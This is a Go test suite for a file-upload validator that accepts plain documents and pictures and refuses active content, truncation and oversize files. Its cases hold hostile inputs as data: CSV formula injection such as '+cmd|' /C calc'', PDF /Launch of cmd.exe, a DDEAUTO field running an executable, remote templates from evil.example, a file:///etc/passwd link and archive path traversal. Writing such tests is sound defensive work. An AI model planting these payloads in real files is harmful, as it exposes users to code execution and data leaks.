package filetype

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"strings"
	"testing"
)

type ruled struct {
	rule    string
	t       Type
	content []byte
	want    string // words of the refusal; empty for a file that is taken
	why     Reason
}

func verify(t *testing.T, cases []ruled) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.rule, func(t *testing.T) {
			r := Check(c.t, c.content)
			switch {
			case r == nil && c.want != "":
				t.Errorf("Check = taken, want %q", c.want)
			case r != nil && (c.want == "" || !strings.Contains(r.Message, c.want) || r.Reason != c.why):
				t.Errorf("Check = %q (%d), want %q (%d)", r.Message, r.Reason, c.want, c.why)
			}
		})
	}
}

func wholes(t testing.TB) map[Type][]byte {
	return map[Type][]byte{
		PDF: pdf(), PNG: pngOf(t, picture()), JPEG: jpegOf(t), WebP: []byte(webpFile), Text: []byte("What we measured, and how.\n"), CSV: []byte("a,b\r\n1,\"2\r\n3\"\r\n"),
		DOCX: archive(t, docx()...), XLSX: archive(t, xlsx()...), ODT: archive(t, odf(ODT)...), ODS: archive(t, odf(ODS)...),
	}
}

func TestWholeFilesAreTakenAsWhatTheyAreAlone(t *testing.T) {
	whole := wholes(t)
	for _, of := range Types() {
		for _, as := range Types() {
			r := Check(as, whole[of])
			taken := of == as || of == CSV && as == Text || of == Text && as == CSV
			if (r == nil) != taken {
				t.Errorf("Check of %s as %s = %v", of.Word(), as.Word(), r)
			}
		}
	}
}

func TestWhatIsCutOffIsRefused(t *testing.T) {
	for of, content := range wholes(t) {
		if of == Text || of == CSV {
			continue // the beginning of a text is a text
		}
		for n := range len(content) - 1 {
			if Check(of, content[:n]) == nil {
				t.Fatalf("the first %d of %d bytes of %s are taken", n, len(content), of.Word())
			}
		}
	}
}

func TestWhatFollowsTheEndIsRefused(t *testing.T) {
	for of, content := range wholes(t) {
		if of == Text || of == CSV {
			continue
		}
		if Check(of, append(bytes.Clone(content), "PK\x03\x04 and more"...)) == nil {
			t.Errorf("%s with bytes after its end is taken", of.Word())
		}
	}
}

func TestNamesFitTheirTypes(t *testing.T) {
	for _, of := range Types() {
		for _, end := range of.Ends() {
			for _, as := range Types() {
				if as.Fits("Report.V2"+strings.ToUpper(end)) != (of == as) {
					t.Errorf("a name ending in %s fits %s", end, as.Word())
				}
			}
		}
	}
	if Check("application/zip", []byte("PK")) == nil || Type("application/zip").Known() {
		t.Error("a type that is not listed is taken")
	}
}

func TestTexts(t *testing.T) {
	verify(t, []ruled{
		{"text may have a byte order mark and any language", Text, []byte("\ufeffCe que nous avons mesuré — 測量\r\n"), "", 0},
		{"text is UTF-8", Text, []byte("caf\xe9"), "not UTF-8", Other},
		{"text has no NUL", Text, []byte("a\x00b"), "control character (0x00) at byte 1", Other},
		{"text is no page", Text, []byte("\n <!DOCTYPE html><p>x"), "HTML", Other},
		{"text is no program", Text, []byte("#!/bin/sh\n"), "a program", Other},
		{"an empty file is none", Text, nil, "empty", CutOff},
		{"CSV may be separated by semicolons", CSV, []byte("a;b;c, d\n1;2;3,4,5\n"), "", 0},
		{"CSV has rows of one width", CSV, []byte("a,b\n1,2,3\n"), "line 2 has 3 fields where the first row has 2", Other},
		{"CSV ends its quotations", CSV, []byte("a,b\n1,\"2\n"), "without its partner", CutOff},
		{"CSV has numbers with signs, names and lists", CSV, []byte("a,b\n-1.5,@ann\n+2,- a point\n"), "", 0},
		{"CSV has no formulas", CSV, []byte("a,b\n1,=1+1\n"), "a field of line 2 is a formula", Active},
		{"CSV starts no program", CSV, []byte("a\n+cmd|' /C calc'!A0\n"), "formula", Active},
		{"CSV calls nothing", CSV, []byte("a\n@SUM(1)*WEBSERVICE(2)\n"), "formula", Active},
		{"a formula in a semicolon file is found, too", CSV, []byte("a;b\n1;\"=HYPERLINK(\"\"x\"\")\"\n"), "formula", Active},
	})
}

func TestPictures(t *testing.T) {
	whole := pngOf(t, picture())
	broken := bytes.Clone(whole)
	broken[len(broken)/2] ^= 1
	wide := bytes.Clone(whole)
	binary.BigEndian.PutUint32(wide[16:], 1<<20)
	binary.BigEndian.PutUint32(wide[29:], crc32.ChecksumIEEE(wide[12:29]))
	higher := bytes.Clone(whole)
	higher[23]++
	binary.BigEndian.PutUint32(higher[29:], crc32.ChecksumIEEE(higher[12:29]))
	lower := bytes.Clone(whole)
	lower[23]--
	binary.BigEndian.PutUint32(lower[29:], crc32.ChecksumIEEE(lower[12:29]))
	photo := jpegOf(t)
	huge := bytes.Clone(photo)
	at := bytes.Index(huge, []byte("\xff\xc0"))
	copy(huge[at+5:], "\xff\xff\xff\xff")
	pass := photo[bytes.LastIndex(photo, []byte("\xff\xda")) : len(photo)-2]
	passes := append(bytes.Clone(photo[:len(photo)-2]), append(bytes.Repeat(pass, mostScans), "\xff\xd9"...)...)
	verify(t, []ruled{
		{"JPEG comes in few passes", JPEG, passes, "too many passes", TooLarge},
		{"PNG may have a palette", PNG, pngOf(t, paletted()), "", 0},
		{"PNG has its checksums", PNG, broken, "checksum", Other},
		{"PNG is not too large", PNG, wide, "too large: 1048576 by 30", TooLarge},
		{"PNG has all its pixels", PNG, higher, "fewer pixels", CutOff},
		{"PNG has no more pixels than it says", PNG, lower, "more pixels", CutOff},
		{"eight bytes of PNG are none", PNG, []byte("\x89PNG\r\n\x1a\n"), "cut off", CutOff},
		{"a camera appends a smaller picture", JPEG, append(bytes.Clone(photo), photo...), "", 0},
		{"what is appended is a whole picture", JPEG, append(bytes.Clone(photo), photo[:200]...), "follows the end", CutOff},
		{"JPEG is not too large", JPEG, huge, "too large", TooLarge},
		{"WebP is as long as it says", WebP, []byte(webpFile + "\x00"), "follows its end", CutOff},
		{"WebP has the parts of a picture", WebP, []byte("RIFF\x26\x00\x00\x00" + webpFile[8:] + "EVIL\x04\x00\x00\x00abcd"), "does not belong", Active},
	})
}

func TestPDFs(t *testing.T) {
	plain := func(s string) string { return s }
	verify(t, []ruled{
		{"PDF may pack its objects", PDF, pdf(packed("/Filter /FlateDecode", deflated, "<< /Type /Font >>", "[ (a) <<>> ]")), "", 0},
		{"PDF may be linked from text", PDF, pdf("(see /Launch and /JS)"), "", 0},
		{"PDF runs no JavaScript", PDF, pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "JavaScript", Active},
		{"an escaped name is the same name", PDF, pdf("<< /S /J#61vaScript >>"), "JavaScript", Active},
		{"PDF starts no program", PDF, pdf("<< /S /Launch /F (cmd.exe) >>"), "starts a program", Active},
		{"PDF embeds no file", PDF, pdf("<< /Type /Filespec /EF << /F 9 0 R >> >>"), "embedded file", Active},
		{"PDF links to no other file", PDF, pdf("<< /S /GoToR /F (other.pdf) >>"), "link to another file", Active},
		{"PDF has no form with scripts", PDF, pdf("<< /AcroForm << /XFA 7 0 R >> >>"), "XFA", Active},
		{"PDF is not encrypted", PDF, pdf("<< /Encrypt 9 0 R >>"), "encryption", Active},
		{"packed objects are looked at", PDF, pdf(packed("/Filter /FlateDecode", deflated, "<< /S /JavaScript >>")), "JavaScript", Active},
		{"packed objects in a list of one filter", PDF, pdf(packed("/Filter [ /FlateDecode ]", deflated, "<< /S /JavaScript >>")), "JavaScript", Active},
		{"objects may lie open in a stream", PDF, pdf(packed("", plain, "<< /S /JavaScript >>")), "JavaScript", Active},
		{"a stream of objects need not say that it is one", PDF, pdf(strings.Replace(packed("/Filter /FlateDecode", deflated, "<< /S /JavaScript >>"), "/Type /ObjStm", "", 1)), "JavaScript", Active},
		{"an object in the text of another is found by its place", PDF, pdf(packed("/Filter /FlateDecode", func(s string) string { return deflated(strings.Replace(s, "10 0 ", "10 1 ", 1)) }, "( << /S /JavaScript >> )")), "JavaScript", Active},
		{"two filters are not looked through", PDF, pdf(packed("/Filter [/FlateDecode /ASCIIHexDecode]", deflated, "3c3c3e3e")), "unusual way", Other},
		{"a filter elsewhere is not looked for", PDF, pdf(packed("/Filter 5 0 R", deflated, "<< >>")), "unusual way", Other},
		{"a filter stands there once", PDF, pdf(packed("/Filter /ASCIIHexDecode /Filter /FlateDecode", deflated, "<< >>")), "unusual way", Other},
		{"an object hides in a comment", PDF, pdf("null % 9 0 obj << /S /JavaScript >> endobj"), "JavaScript", Active},
		{"an object hides in a text", PDF, pdf("( 9 0 obj << /S /JavaScript >> endobj )"), "JavaScript", Active},
		{"an object hides in a stream", PDF, pdf(stream("", "\x00 9 0 obj << /S /JavaScript >> endobj")), "JavaScript", Active},
		{"a stream is not in another file", PDF, pdf("<< /Length 0 /F (other.bin) >>\nstream\n\nendstream"), "in another file", Active},
		{"a text ends", PDF, pdf("(never"), "does not end", CutOff},
		{"objects do not unpack to too much", PDF, pdf(packed("/Filter /FlateDecode", func(s string) string { return deflated(s + strings.Repeat(" ", mostObjects)) }, "<< >>")), "unpack to more than 64 MiB", TooLarge},
		{"the table is where the end says", PDF, bytes.Replace(pdf(), []byte("startxref\n"), []byte("startxref\n1"), 1), "not where it says", CutOff},
		{"it begins at the beginning", PDF, append([]byte("GIF89a"), pdf()...), "not those of a PDF", Other},
	})
}

func TestOfficeDocuments(t *testing.T) {
	doc := func(more ...part) []byte { return archive(t, changed(docx(), more...)...) }
	book := func(more ...part) []byte { return archive(t, changed(xlsx(), more...)...) }
	links := func(lines ...string) part { return relations("word/_rels/document.xml.rels", lines...) }
	field := func(pieces ...string) string {
		body := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
		for _, p := range pieces {
			body += `<w:r><w:instrText>` + p + `</w:instrText></w:r>`
		}
		return body + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	macros := `<Override PartName="/word/any.bin" ContentType="application/vnd.ms-office.vbaProject"/>`
	verify(t, []ruled{
		{"DOCX may link to a page", DOCX, doc(word(field(` HYPERLINK "https://example.org/link" `))), "", 0},
		{"DOCM is no DOCX", DOCX, doc(contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml")), "macroenabled", Active},
		{"XLSM is no XLSX", XLSX, book(contentTypes("application/vnd.ms-excel.sheet.macroEnabled.main+xml")), "macroenabled", Active},
		{"macros by their content type", DOCX, doc(contentTypes(wordMain, macros)), "vbaproject", Active},
		{"macros by their relationship", DOCX, doc(links(strings.Replace(relation("x", "any.bin", ""), officeRelations+"x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", 1))), "macros", Active},
		{"macros by their bytes", DOCX, doc(part{"word/media/image2.png", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "word/media/image2.png", Active},
		{"macro sheets of Excel 4", XLSX, book(contentTypes(sheetMain, `<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/>`)), "macrosheet", Active},
		{"no embedded workbook", DOCX, doc(part{"word/embeddings/a.xlsx", string(archive(t, xlsx()...))}), "word/embeddings/a.xlsx", Active},
		{"no embedded object", DOCX, doc(links(relation("oleObject", "embeddings/a.bin", ""))), "an embedded file", Active},
		{"no embedded page", DOCX, doc(links(relation("aFChunk", "a.html", ""))), "an embedded file", Active},
		{"nothing that is not known", DOCX, doc(part{"word/evil.js", "alert(1)"}), "word/evil.js", Active},
		{"no template from elsewhere", DOCX, doc(relations("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/t.dotm", "External"))), "a template", Active},
		{"no picture from elsewhere", DOCX, doc(links(relation("image", "https://evil.example/1.png", "External"))), "loads something from elsewhere", Active},
		{"no link to a file", DOCX, doc(links(relation("hyperlink", "file://server/share", "External"))), "links to a file", Active},
		{"no field that starts a program", DOCX, doc(word(field("DD", `EAUTO c:\\a.exe`))), "DDEAUTO", Active},
		{"no simple field that loads", DOCX, doc(word(`<w:fldSimple w:instr=" includepicture &quot;http://x&quot; "/>`)), "INCLUDEPICTURE", Active},
		{"no field inside a field", DOCX, doc(word(`<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT x</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:p>`)), "INCLUDETEXT", Active},
		{"no drawing from elsewhere", DOCX, doc(word(`<v:imagedata src="\\server\share\1.png"/>`)), "loads something from elsewhere", Active},
		{"no entities", DOCX, doc(part{"word/styles.xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>x</a>`}), "defines entities", Other},
		{"XML is whole", DOCX, doc(part{"word/styles.xml", `<a><b></a>`}), "not whole XML", CutOff},
		{"an archive is no DOCX", DOCX, archive(t, part{"a.xml", "<a/>"}), "not those of a DOCX", Other},
		{"no link to another workbook", XLSX, book(relations("xl/_rels/workbook.xml.rels", relation("externalLink", "externalLinks/externalLink1.xml", ""))), "a link to another file", Active},
		{"no connection", XLSX, book(relations("xl/_rels/workbook.xml.rels", relation("connections", "connections.xml", ""))), "a connection", Active},
		{"no formula that loads", XLSX, book(sheet(`<c r="A1"><f>1+_xlfn.WEBSERVICE("http://x")</f></c>`)), "formula", Active},
		{"a name is there once", DOCX, archive(t, append(docx(), part{"WORD/document.xml", "<a/>"})...), "twice", Other},
		{"a name stays inside", DOCX, archive(t, append(docx(), part{"../a.xml", "<a/>"})...), "leads out", Other},
		{"not too much comes out", DOCX, doc(part{"word/big.xml", "<a>" + strings.Repeat(" ", mostUnpacked) + "</a>"}), "unpacks to more than 128 MiB", TooLarge},
	})
}

func TestOpenDocuments(t *testing.T) {
	doc := func(of Type, more ...part) []byte { return archive(t, changed(odf(of), more...)...) }
	manifest := func(line string) part {
		return part{"META-INF/manifest.xml", declaration + `<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">` + line + `</m:manifest>`}
	}
	verify(t, []ruled{
		{"no macros", ODT, doc(ODT, part{"Basic/Standard/Module1.xml", "<a/>"}), "macros", Active},
		{"no scripts", ODS, doc(ODS, part{"Scripts/python/a.py", "x"}), "macros", Active},
		{"no macro at an event", ODT, doc(ODT, open(`<script:event-listener script:event-name="dom:load"/>`)), "a macro", Active},
		{"no embedded object", ODT, doc(ODT, part{"Object 2", "\xd0\xcf\x11\xe0"}), "object 2", Active},
		{"no embedded object by its type", ODT, doc(ODT, manifest(`<m:file-entry m:full-path="Object 2" m:media-type="application/vnd.sun.star.oleobject"/>`)), "oleobject", Active},
		{"no password", ODT, doc(ODT, manifest(`<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry>`)), "encrypted", Active},
		{"no picture from elsewhere", ODT, doc(ODT, open(`<draw:image xlink:href="http://evil.example/1.png"/>`)), "from elsewhere", Active},
		{"no link to a file", ODT, doc(ODT, open(`<text:a xlink:href="file:///etc/passwd">x</text:a>`)), "links to a file", Active},
		{"nothing outside of the document", ODT, doc(ODT, open(`<draw:image xlink:href="../1.png"/>`)), "from elsewhere", Active},
		{"no sheet of another file", ODS, doc(ODS, open(`<table:table-source xlink:href="a.ods"/>`)), "a connection", Active},
		{"no formula that loads", ODS, doc(ODS, open(`<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"/>`)), "formula", Active},
		{"no formula into another file", ODS, doc(ODS, open(`<table:table-cell table:formula="of:='file:///a.ods'#$Sheet1.A1"/>`)), "formula", Active},
		{"it says what it is first", ODT, archive(t, odf(ODT)[1:]...), "not those of an ODT", Other},
		{"it has its content", ODT, archive(t, odf(ODT)[0], odf(ODT)[1]), "lacks its content", CutOff},
	})
}

// An archive in which something hides between the entries reads well in any program, and differently in each.
func TestNothingHidesInAnArchive(t *testing.T) {
	whole := archive(t, docx()...)
	at := bytes.Index(whole[4:], []byte("PK\x03\x04")) + 4
	hidden := append(append(bytes.Clone(whole[:at]), "hidden"...), whole[at:]...)
	renamed := bytes.Replace(whole, []byte("word/document.xml"), []byte("word/documenT.xml"), 1) // in the first of the two tables alone
	commented := append(bytes.Clone(whole), "hidden"...)
	binary.LittleEndian.PutUint16(commented[len(whole)-2:], 6)
	for name, content := range map[string][]byte{"between": hidden, "in front": append([]byte("hidden"), whole...), "in a comment": commented, "under another name": renamed} {
		if Check(DOCX, content) == nil {
			t.Errorf("a document with something hidden %s is taken", name)
		}
	}
}

func FuzzCheck(f *testing.F) {
	for of, content := range wholes(f) {
		for i, t := range Types() {
			if t == of {
				f.Add(uint8(i), content)
			}
		}
	}
	f.Add(uint8(0), pdf(packed("/Filter /FlateDecode", deflated, "<< /S /GoTo >>", "[1 2]")))
	f.Fuzz(func(t *testing.T, of uint8, content []byte) {
		kind := Types()[int(of)%len(Types())]
		r := Check(kind, content)
		if r != nil && (r.Message == "" || len(r.Message) > 600) {
			t.Errorf("the refusal says %q", r.Message)
		}
		if again := Check(kind, content); (r == nil) != (again == nil) {
			t.Error("the same bytes are once taken and once refused")
		}
	})
}
